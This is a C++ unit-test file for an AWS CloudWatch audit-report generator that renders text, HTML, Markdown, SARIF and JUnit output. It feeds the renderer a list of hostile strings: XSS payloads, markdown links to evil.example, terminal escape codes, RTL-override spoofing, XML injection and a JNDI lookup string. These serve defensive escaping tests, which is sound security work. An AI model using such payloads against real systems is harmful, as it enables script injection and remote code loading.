#include "message/audit_report.h"
#include "message/escape.h"

#include "base/text.h"

#include <gmock/gmock.h>

#include <array>

namespace convops {
namespace {

using testing::HasSubstr;
using testing::Not;

AuditReport sample() {
    AuditReport report;
    report.account = "111122223333";
    report.regions = { "eu-west-1" };
    report.at = *parse_time("2026-11-23T10:00:00Z");
    report.grade = 'C';
    report.grade_capped_by = "topic_has_subscription";
    report.score = 83.2;
    report.unchecked_share = 0.12;
    report.categories = { { AuditCategory::coverage, std::nullopt }, { AuditCategory::delivery, 50.0, 1, 1, 1 } };
    report.checks = { { "alarm_has_action", "Every alarm has an action", 23, AuditCategory::hygiene,
                          AuditSeverity::high, 3, 1, 0 },
        { "topic_has_subscription", "Every alarm topic has a subscription", 50, AuditCategory::delivery,
            AuditSeverity::high, 0, 0, 1 } };
    AuditFinding failed;
    failed.check = "alarm_has_action";
    failed.number = 23;
    failed.category = AuditCategory::hygiene;
    failed.severity = AuditSeverity::high;
    failed.judgement.result = AuditResult::fail;
    failed.judgement.region = "eu-west-1";
    failed.judgement.resource
        = "arn:aws:cloudwatch:eu-west-1:111122223333:alarm:</code><script>alert(1)</script>\x1b[31m";
    failed.judgement.why = "It has no ALARM action.";
    failed.judgement.evidence = { { "cloudwatch:DescribeAlarms", "AlarmActions", JsonArray {} } };
    failed.judgement.fix = { "aws cloudwatch put-metric-alarm --alarm-name '<b>'", "  A:\n    Type: X\n",
        "resource \"x\" \"y\" {\n}\n" };
    report.findings.push_back(failed);
    AuditFinding unknown;
    unknown.check = "topic_has_subscription";
    unknown.number = 50;
    unknown.category = AuditCategory::delivery;
    unknown.severity = AuditSeverity::high;
    unknown.judgement.result = AuditResult::unknown;
    unknown.judgement.region = "eu-west-1";
    unknown.judgement.why = "sns:ListSubscriptions: not allowed";
    unknown.judgement.iam_action = "sns:ListSubscriptions";
    report.findings.push_back(unknown);
    report.best_fixes = { { "Every alarm has an action", { "alarm_has_action" }, 6.1, failed.judgement.fix } };
    UntoldMoment moment;
    moment.from = report.at - Days { 2 };
    moment.until = moment.from + Minutes { 45 };
    moment.region = "eu-west-1";
    moment.resource = { "rds:instance", "orders-db", "" };
    moment.metric = { "AWS/RDS", "DatabaseConnections", { { "DBInstanceIdentifier", "orders-db" } } };
    moment.worst = 480;
    moment.usual = 60;
    moment.why_untold = "No alarm watches this metric.";
    moment.alarm = "Maximum above 400 in 3 of 3 periods of 5 min";
    report.untold.push_back(moment);
    return report;
}

TEST(AuditText, FitsEightyColumnsAndNamesTheMissingPermission) {
    auto const text = audit_text(sample());
    for (auto const& line : split(text, '\n'))
        if (line.find("aws ") == std::string::npos)
            EXPECT_LE(width_of(line), 80U) << line;
    EXPECT_THAT(text, HasSubstr("Grade C"));
    EXPECT_THAT(text, HasSubstr("12 % could not be checked"));
    EXPECT_THAT(text, HasSubstr("needs sns:ListSubscriptions (checks 50)"));
    EXPECT_THAT(text, HasSubstr("DatabaseConnections was 480"));
    EXPECT_THAT(text, HasSubstr("no false alarm"));
}

TEST(AuditText, DaysThatNobodyLookedAtAreNotCalledQuiet) {
    auto report = sample();
    report.untold.clear();
    report.untold_gap = "cloudwatch:GetMetricData was denied";
    EXPECT_THAT(audit_text(report), HasSubstr("all was looked at: cloudwatch:GetMetricData was denied"));
    EXPECT_THAT(audit_html(report), HasSubstr("all was looked at: cloudwatch:GetMetricData was denied"));
}

TEST(AuditText, WhatWasNotAskedForIsNotCalledChecked) {
    auto report = sample();
    report.only = { "alarm_has_action" };
    report.checks[1].looked_at = false;
    report.untold.clear();
    report.untold_gap = "only 1 of 2 checks were asked for (--only)";
    for (auto const& text : { audit_text(report), audit_markdown(report), audit_html(report) }) {
        EXPECT_THAT(text, HasSubstr("checks were asked for: of these"));
        EXPECT_THAT(text, Not(HasSubstr("No moment of the last 14 days")));
    }
    EXPECT_THAT(audit_junit(report), HasSubstr("skipped=\"1\""));
    EXPECT_THAT(audit_sarif(report), Not(HasSubstr("\"id\":\"topic_has_subscription\"")));
}

TEST(AuditText, ATerminalIsNeverTold) {
    EXPECT_THAT(audit_text(sample()), Not(HasSubstr("\x1b")));
}

TEST(AuditHtml, HasNoScriptNoRequestAndEscapesNames) {
    auto const page = audit_html(sample());
    EXPECT_THAT(page, Not(HasSubstr("<script")));
    EXPECT_THAT(page, Not(HasSubstr("http://")));
    EXPECT_THAT(page, Not(HasSubstr("https://")));
    EXPECT_THAT(page, HasSubstr("&lt;script&gt;"));
    EXPECT_THAT(page, HasSubstr("id=\"show-H\" checked"));
    EXPECT_THAT(page, HasSubstr("Missing: <code>sns:ListSubscriptions</code>"));
}

TEST(AuditMarkdown, AFenceCanNotBeClosedByTheCommandInIt) {
    auto report = sample();
    report.findings[0].judgement.fix.cli = "aws x --name '```\n# heading'";
    EXPECT_THAT(audit_markdown(report), HasSubstr("````sh\n"));
}

TEST(AuditMarkdown, ANameIsNoMarkup) {
    auto report = sample();
    report.findings[0].judgement.resource = "[x](http://evil.example) | **b**";
    auto const text = audit_markdown(report);
    EXPECT_THAT(text, Not(HasSubstr("[x](http://evil.example)")));
}

TEST(AuditSarif, UnknownIsOpenAndNeverAFailure) {
    auto const sarif = *parse_json(audit_sarif(sample()));
    auto const& results = list_at(sarif.at("runs").at(0), "results");
    ASSERT_EQ(results.size(), 2U);
    EXPECT_EQ(text_at(results[0], "kind"), "fail");
    EXPECT_EQ(text_at(results[0], "level"), "error");
    EXPECT_EQ(text_at(results[1], "kind"), "open");
    EXPECT_EQ(text_at(results[1], "level"), "none");
}

TEST(AuditJunit, UnknownIsSkippedWithItsReason) {
    auto const xml = audit_junit(sample());
    EXPECT_THAT(xml, HasSubstr("failures=\"1\""));
    EXPECT_THAT(xml, HasSubstr("skipped=\"1\""));
    EXPECT_THAT(xml, HasSubstr("needs sns:ListSubscriptions"));
    EXPECT_THAT(xml, Not(HasSubstr("<script")));
}

// One stranger's text in every place of a report that a stranger can fill.
AuditReport report_of_strangers(std::string const& text) {
    auto report = sample();
    auto& judgement = report.findings[0].judgement;
    judgement.resource = text;
    judgement.region = text;
    judgement.why = text;
    judgement.evidence = { { text, text, Json(JsonObject { { text, text } }) } };
    report.findings[1].judgement.why = text;
    report.untold_gap = text;
    report.untold[0].resource.name = text;
    report.untold[0].metric.name = text;
    report.untold[0].why_untold = text;
    report.untold[0].alarm = text;
    report.tunings = { { "eu-west-1", text, text, text, 3, 1, 1, 1, {} } };
    report.costs = { { text, 1, 1, text } };
    report.best_fixes[0].statement = text;
    return report;
}

constexpr std::array hostile_texts { "</code></pre><script src=//evil.example></script>",
    "\"><img src=x onerror=alert(1)>", "' onmouseover='alert(1)", "{{policy}}{{{title}}}", "<!--",
    "]]></failure><testcase name=\"x\"/>", "&lt;b&gt;", "[pay](https://evil.example)",
    "![x](https://evil.example/x.png)", "a | b | c", "```\n# heading\n```", "one\n\n# two\n- three",
    "@everyone #1 :tada:", "\x1b[2J\x1b]0;owned\x07", "a\rb\u0085c\u2028d", "\u202Etxt.exe\u200B\uFEFF",
    "\xff\xfe\xc0\x80", "\uFFFE\uFFFF", "%s%n${jndi:ldap://evil.example}", "javascript:alert(1)" };

TEST(AuditReports, AStrangersTextIsOnlyTextInThePage) {
    auto const tags = [](std::string const& page) { // a stranger's bracket would make more of them
        return std::count(page.begin(), page.end(), '<');
    };
    auto const expected = tags(audit_html(report_of_strangers("plain")));
    for (auto const* text : hostile_texts) {
        auto const page = audit_html(report_of_strangers(text));
        EXPECT_EQ(tags(page), expected) << text;
        EXPECT_THAT(page, Not(HasSubstr("<script"))) << text;
        EXPECT_THAT(page, Not(HasSubstr("\"><img"))) << text;
        EXPECT_THAT(page, Not(HasSubstr("\x1b"))) << text;
        EXPECT_THAT(page, Not(HasSubstr("\u202E"))) << text;
        EXPECT_EQ(clean_utf8(page), page) << text;
    }
}

TEST(AuditReports, AStrangersTextIsOnlyTextInMarkdown) {
    auto const rows = [](std::string const& text) { // of tables and lists, headings, fences
        auto const lines = split(text, '\n');
        return std::count_if(lines.begin(), lines.end(), [](auto const& line) { return !line.empty(); });
    };
    auto const expected = rows(audit_markdown(report_of_strangers("plain")));
    for (auto const* text : hostile_texts) {
        auto const report = audit_markdown(report_of_strangers(text));
        EXPECT_EQ(rows(report), expected) << text;
        EXPECT_THAT(report, Not(HasSubstr("](https://evil"))) << text;
        EXPECT_THAT(report, Not(HasSubstr("<script"))) << text;
        EXPECT_THAT(report, Not(HasSubstr("<img"))) << text;
        EXPECT_THAT(report, Not(HasSubstr("https://evil"))) << text << ": GitHub makes a link of it";
        EXPECT_EQ(clean_utf8(report), report) << text;
    }
}

TEST(AuditReports, AStrangersTextMovesNothingOnATerminal) {
    for (auto const* text : hostile_texts) {
        auto const report = audit_text(report_of_strangers(text));
        EXPECT_EQ(clean_utf8(report), report) << text;
        EXPECT_THAT(report, Not(HasSubstr("\r"))) << text;
        EXPECT_THAT(report, Not(HasSubstr("\n# "))) << text;
    }
}

TEST(AuditReports, AStrangersTextKeepsSarifAndJunitReadable) {
    auto const count = [](std::string const& text, std::string_view part) {
        return (text.size() - replace_all(text, part, "").size()) / part.size();
    };
    for (auto const* text : hostile_texts) {
        auto const sarif = parse_json(audit_sarif(report_of_strangers(text)));
        ASSERT_TRUE(sarif) << text;
        EXPECT_EQ(list_at(sarif->at("runs").at(0), "results").size(), 2U) << text;
        auto const junit = audit_junit(report_of_strangers(text));
        EXPECT_EQ(count(junit, "<testcase "), 2U) << text;
        EXPECT_EQ(count(junit, "<failure "), 1U) << text;
        EXPECT_THAT(junit, Not(HasSubstr("\uFFFE"))) << "no character of XML";
        EXPECT_EQ(clean_utf8(junit), junit) << text;
    }
}

} // namespace
} // namespace convops
